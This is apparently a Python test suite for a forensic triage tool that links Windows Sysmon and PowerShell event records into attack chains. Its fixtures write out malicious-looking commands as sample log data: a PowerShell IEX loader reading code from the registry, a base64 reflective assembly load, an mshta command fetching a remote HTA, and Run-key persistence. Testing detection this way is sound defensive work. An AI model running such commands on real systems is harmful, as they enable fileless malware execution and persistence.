# ruff: noqa: E501 - events are long
"""Events tied to values, loaders and processes, and the times that a report tells."""

from __future__ import annotations

from tests.evtx.events import event, indicators, judged, sysmon
from triage.model import Location, Report
from triage.model.windows import RegistryValue
from triage.report import times

KEY = "HKU\\S-1-5-21-1-2-3-1001\\Software\\Vendor"
LOADER = "IEX (Get-ItemProperty HKCU:\\Software\\Vendor).Code"
GUID, OTHER = "{365ABB72-0D1D-5CD7-0000-001020EF1500}", "{365ABB72-0D3E-5CD7-0000-0010680E1600}"


def block(
    script: str, record: int = 1, time: str = "2024-05-11T18:00:00.0Z"
) -> tuple[int, str, str]:
    data = {"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": script, "ScriptBlockId": "b"}
    return event("Microsoft-Windows-PowerShell", 4104, data, record=record, time=time)


def relations(report: Report) -> set[tuple[str, str, str]]:
    acts = {s.id: str(dict(s.facts).get("what") or s.kind) for s in report.subjects}
    return {
        (acts[s.id], link.relation, acts[link.subject]) for s in report.subjects for link in s.links
    }


def test_a_script_that_loads_what_another_event_wrote_is_a_chain() -> None:
    code = "[Reflection.Assembly]::Load([Convert]::FromBase64String($x)); IEX $y; # " + "a" * 200
    wrote = sysmon(13, 2, EventType="SetValue", TargetObject=f"{KEY}\\Code", Details=code,
                   Image="C:\\Windows\\System32\\reg.exe")  # fmt: skip
    report = judged(wrote, block(LOADER))
    found = relations(report)
    if "event-registry-payload" in indicators(report):
        script, write = "a script that ran", "a write to the Registry"
        assert (script, "reads what was written in", write) in found
        assert {s.severity.value for s in report.subjects if s.links} == {"critical"}


def test_an_event_that_wrote_a_value_points_to_it() -> None:
    value = RegistryValue(Location("/Users/bob/NTUSER.DAT", "x"), "user", "HKU\\bob\\Software\\Microsoft"
                          "\\Windows\\CurrentVersion\\Run", "Updater", 1, 40)  # fmt: skip
    wrote = sysmon(13, EventType="SetValue", Details="C:\\Users\\bob\\a.exe", Image="C:\\a.exe",
                   TargetObject="HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion"
                   "\\Run\\Updater")  # fmt: skip
    from tests.evtx.events import events
    from triage.events.links import ties
    from triage.model import Confidence, Finding, Severity

    finding = Finding("x", "x", "x", (), Severity.MEDIUM, Confidence.MODERATE, value.location, ())
    (written,) = events(wrote)
    (tie,) = ties([(value, (finding,)), (written, (finding,))])
    assert tie.relation == "wrote"


def test_processes_make_chains_by_their_guid() -> None:
    parent = sysmon(1, 1, Image="C:\\Windows\\System32\\mshta.exe", ProcessGuid=GUID, ProcessId=7,
                    CommandLine="mshta http://203.0.113.7/a.hta", ParentImage="C:\\x.exe")  # fmt: skip
    child = sysmon(1, 2, Image="C:\\Windows\\System32\\cmd.exe", ProcessGuid=OTHER, ProcessId=8,
                   CommandLine="cmd /c x", ParentImage="C:\\Windows\\System32\\mshta.exe",
                   ParentProcessGuid=GUID, ParentProcessId=7)  # fmt: skip
    thread = sysmon(8, 3, SourceImage="C:\\Windows\\System32\\cmd.exe", SourceProcessGuid=OTHER,
                    TargetImage="C:\\Windows\\explorer.exe", StartModule="")  # fmt: skip
    found = relations(judged(parent, child, thread))
    start, entered = "a process that was started", "a thread started in another process"
    assert (start, "started", start) in found
    assert (start, "same process as", entered) in found


def test_every_subject_tells_its_times_and_their_source() -> None:
    report = judged(block(LOADER, 1), block(LOADER, 2, "2024-05-11T19:00:00.0Z"))
    script = next(s for s in report.subjects if s.kind == "event-record")
    assert dict(script.facts)["times"] == (
        "2024-05-11T18:00:00Z first event (TimeCreated); 2024-05-11T19:00:00Z last event (TimeCreated)"
    )
    assert [(words, times.rfc3339(moment)) for words, moment in times.of(script)][:2] == [
        ("first event (TimeCreated)", "2024-05-11T18:00:00.000Z"),
        ("last event (TimeCreated)", "2024-05-11T19:00:00.000Z"),
    ]
